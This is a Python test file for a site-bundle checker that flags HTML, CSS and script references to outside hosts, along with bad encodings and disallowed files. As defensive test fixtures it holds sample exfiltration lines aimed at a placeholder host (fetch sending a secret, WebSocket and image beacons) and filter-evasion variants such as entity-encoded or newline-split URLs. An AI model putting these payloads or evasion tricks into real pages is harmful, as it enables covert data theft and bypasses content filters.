"""The check `files`: each broken page breaks one rule, and honest pages pass."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from builder.checks.files import FilesCheck
from builder.checks.outside import css_problems, html_problems, is_outside, script_problems
from builder.stopping import Stop
from builder.workspace import Snapshot
from guardrails.wire import CheckReport, Limits

LIMITS = Limits()


def checked(**files: str) -> CheckReport:
    contents = {name.replace("_dot_", "."): text.encode() for name, text in files.items()}
    entries = tuple((name, len(content)) for name, content in contents.items())
    return report_on(Snapshot(entries, contents))


def report_on(snapshot: Snapshot) -> CheckReport:
    return FilesCheck().check(snapshot, LIMITS, Stop()).report


def of_page(page: str) -> tuple[str, ...]:
    return checked(index_dot_html=page).findings


@pytest.mark.parametrize(
    "page",
    [
        "<!doctype html><p>hello &amp; <b>good",
        "<script>document.createElementNS('http://www.w3.org/2000/svg', 'g')</script>",
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><use href='#a'/></svg>",
        "<img src='data:image/png;base64,AAAA'><a href='#top'>up</a><a href='mailto:a@b.example'>m</a>",
        "<script>// as https://example.com/ says\nconst text = 'Visit https://example.com';</script>",
        "<style>a { background: url(data:image/png;base64,AA) } b { background: url('x.png') }</style>",
        "<script src=app.js></script><link rel=stylesheet href=./style.css>",
        "<p onclick='go()'>x</p><form onsubmit='return false'></form>",
        "<script>const half = a / b; const re = /x\\/\\/y/; // a comment with 'quotes'</script>",
    ],
)
def test_an_honest_page_passes(page: str) -> None:
    """Namespaces, data, fragments, own files and addresses in plain text are no outside references."""
    assert () == of_page(page)


@pytest.mark.parametrize(
    ("page", "found"),
    [
        ("<script src='https://cdn.evil.test/react@99.js'></script>", "<script src>"),
        ("<img src='//evil.test/x.png'>", "<img src>"),
        ("<img src=' \n\\\\evil.test/x'>", "<img src>"),
        ("<img src='ht\ntps://evil.test/x'>", "<img src>"),
        ("<img src='&#104;ttps://evil.test/x'>", "<img src>"),
        ("<IMG SRC=HTTPS:evil.test>", "<img src>"),
        ("<img srcset='a.png 1x, https://evil.test/b.png 2x'>", "<img srcset>"),
        ("<a href='https://evil.test'>x</a>", "<a href>"),
        ("<form action='https://evil.test'></form>", "<form action>"),
        ("<button formaction='//evil.test'>x</button>", "<button formaction>"),
        ("<iframe src='https://evil.test'></iframe>", "<iframe src>"),
        ("<iframe srcdoc='&lt;img src=//evil.test>'></iframe>", "<img src>"),
        ("<object data='https://evil.test/x'></object>", "<object data>"),
        ("<svg><image xlink:href='https://evil.test/x'/></svg>", "<image xlink:href>"),
        ("<base href='/x/'>", "<base>"),
        ("<meta http-equiv='Refresh' content='0;url=x.html'>", "refresh"),
        ("<style>@import 'https://evil.test/x.css';</style>", "a style"),
        ("<style>@import url(//evil.test/x.css);</style>", "a style"),
        ("<p style='background:url( \"https://evil.test/x\" )'>", "a style"),
        ("<script>import('https://evil.test/x.js')</script>", "a script"),
        ('<script>const hidden = "import(\'https:\\/\\/evil.test\')"</script>', "a script"),
        ("<script>import x from \"//evil.test/x.js\"</script>", "a script"),
        ("<script>fetch(`https://evil.test/?${secret}`)</script>", "a script"),
        ("<script>new WebSocket('wss://evil.test')</script>", "a script"),
        ("<script>new Image().src = '//evil.test/p.gif'</script>", "a script"),
        ("<p onclick=\"location='https://evil.test'\">", "a script"),
        ("<a href=\"javascript:location='https://evil.test'\">", "a script"),
        ("<script>navigator.serviceWorker.register('sw.js')</script>", "service worker"),
        ("<script>let a=", "ends inside"),
        ("<p>x</p><!-- never closed", "ends inside"),
        ("<p class='x", "ends inside"),
        ("   ", "empty"),
        ("<![x[", "cannot be read as HTML"),
    ],
)  # fmt: skip
def test_a_page_that_needs_the_outside_is_found(page: str, found: str) -> None:
    """One rule each, named in the finding."""
    findings = of_page(page)

    assert any(found in finding for finding in findings), findings


def test_frames_within_frames_have_an_end() -> None:
    """A page cannot hide behind depth."""
    page = "<img src=//evil.test>"
    for _ in range(6):
        page = '<iframe srcdoc="' + page.replace("&", "&amp;").replace('"', "&quot;") + '"></iframe>'

    assert ["frames within frames"] == html_problems(page)


def test_style_and_script_files_are_read_too() -> None:
    """Not only the page."""
    report = checked(
        index_dot_html="<p>",
        a_dot_css="@import 'https://evil.test/x'",
        b_dot_js="fetch('https://evil.test')",
        c_dot_svg="<svg><image href='//evil.test/x'/></svg>",
        d_dot_txt="https://fine.test",
    )

    assert ["'a.css'", "'b.js'", "'c.svg'"] == [finding.split(":")[0] for finding in report.findings]


def test_a_page_must_be_utf_8() -> None:
    """Other encodings could hide anything."""
    content = "<p>é".encode("utf-16")
    report = report_on(Snapshot((("index.html", len(content)),), {"index.html": content}))

    assert ("'index.html': not UTF-8 text",) == report.findings


def test_names_and_sizes_are_checked() -> None:
    """The bundle's rules, and what the workspace found odd."""
    report = report_on(Snapshot((("x.sh", 5),), {}, ("'l': a symbolic link",)))

    assert not report.passed
    assert ("'l': a symbolic link", "'x.sh': a type of file that is not served", "there is no index.html") == (
        report.findings
    )


def test_findings_are_bounded() -> None:
    """A page with thousands of faults makes a report that fits."""
    page = b"".join(b"<img src=//e%d.test>" % n for n in range(9000))
    report = report_on(Snapshot((("index.html", 5),), {"index.html": page}))

    assert 40 == len(report.findings)


@pytest.mark.parametrize(
    "pattern", ["<!--", "<a ", "<a b='", "<a href=", "<![", "url( ", "'//a.", "<iframe srcdoc='", "@import ", "<"]
)
def test_no_text_makes_the_check_slow(pattern: str) -> None:
    """A hostile page of 300 kB is read in the time of an honest one, not in its square."""
    text = pattern * (300_000 // len(pattern))
    began = time.process_time()

    html_problems(text)
    html_problems(f"<style>{text}</style><script>{text}</script>")
    css_problems(text)
    script_problems(text)

    assert time.process_time() - began < 10


@given(st.text())
def test_any_text_gives_an_answer(text: str) -> None:
    """Never an exception."""
    assert isinstance(html_problems(text) + css_problems(text) + script_problems(text), list)


@given(st.text(alphabet="<>/!-[]&;='\"abscriptyle \n", max_size=60))
def test_any_tag_soup_gives_an_answer(text: str) -> None:
    """Nor does anything that looks like HTML raise one."""
    assert isinstance(html_problems(text), list)


@pytest.mark.parametrize("address", ["", "x.png", "/x", "./x", "#x", "?q", "data:,x", "blob:x", "tel:1", "a/b:c"])
def test_an_address_inside_is_told_apart(address: str) -> None:
    """Relative ones and data stay in the bundle."""
    assert not is_outside(address)
